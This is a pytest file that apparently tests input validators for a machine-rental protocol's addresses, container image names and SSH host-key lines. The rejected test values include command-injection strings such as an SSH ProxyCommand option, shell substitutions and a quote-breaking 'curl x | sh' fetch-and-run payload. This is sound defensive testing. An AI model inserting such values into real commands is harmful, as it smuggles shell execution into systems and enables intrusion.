"""What a machine or a renter writes may not become an option, a command or another path."""

import pytest
from pydantic import TypeAdapter, ValidationError

from protocol.agent import Address, HostKeyLine
from protocol.signing import openssh_public_key
from protocol.workload import IMAGE_REFERENCE


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "2001:db8::1", "gpu-1.example.org"])
def test_an_address_is_taken(address: str) -> None:
    assert TypeAdapter(Address).validate_python(address) == address


@pytest.mark.parametrize(
    "address",
    [
        "",
        "-oProxyCommand=id",
        "a; id",
        "a$(id)",
        "a`id`",
        "a b",
        "a\nb",
        "a\n",
        "root@a",
        "a" * 254,
    ],
)
def test_an_address_that_a_shell_would_run_is_refused(address: str) -> None:
    with pytest.raises(ValidationError):
        TypeAdapter(Address).validate_python(address)


@pytest.mark.parametrize(
    "image",
    [
        "debian:12",
        "127.0.0.1:5000/nobody/nothing:1",
        "ghcr.io/some-body/an.image__x:v1.2-rc",
        "sha256:" + "a" * 64,
        "busybox@sha256:" + "0" * 64,
        "host:5000/a:b@sha256:" + "0" * 64,
    ],
)
def test_an_image_name_is_taken(image: str) -> None:
    assert IMAGE_REFERENCE.fullmatch(image)


def test_a_host_key_is_taken_as_we_write_keys() -> None:
    key = openssh_public_key("ab" * 32)
    assert TypeAdapter(HostKeyLine).validate_python(key) == key


@pytest.mark.parametrize(
    "after", [" x' ; curl x | sh ; echo '", " alice", "\n", "\nssh-rsa A", "'"]
)
def test_a_host_key_with_anything_beside_it_is_refused(after: str) -> None:
    with pytest.raises(ValidationError):
        TypeAdapter(HostKeyLine).validate_python(openssh_public_key("ab" * 32) + after)
